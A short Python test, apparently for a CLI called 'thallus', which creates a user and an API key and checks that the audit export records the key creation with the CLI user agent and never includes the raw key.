def test_cli_actions_are_audited(database_url: str, tmp_path: Path) -> None:
    created = thallus(database_url, tmp_path, "users", "create", "--email", "ada@example.com", "--password", PASSWORD)
    assert created.returncode == 0, created.stderr
    key = thallus(database_url, tmp_path, "keys", "create", "--email", "ada@example.com", "--name", "ops")
    assert key.returncode == 0
    exported = thallus(database_url, tmp_path, "audit", "export", "--action", "api_key_create")
    [record] = [json.loads(line) for line in exported.stdout.splitlines()]
    assert record["user_agent"] == "thallus-cli"
    assert key.stdout.strip() not in exported.stdout
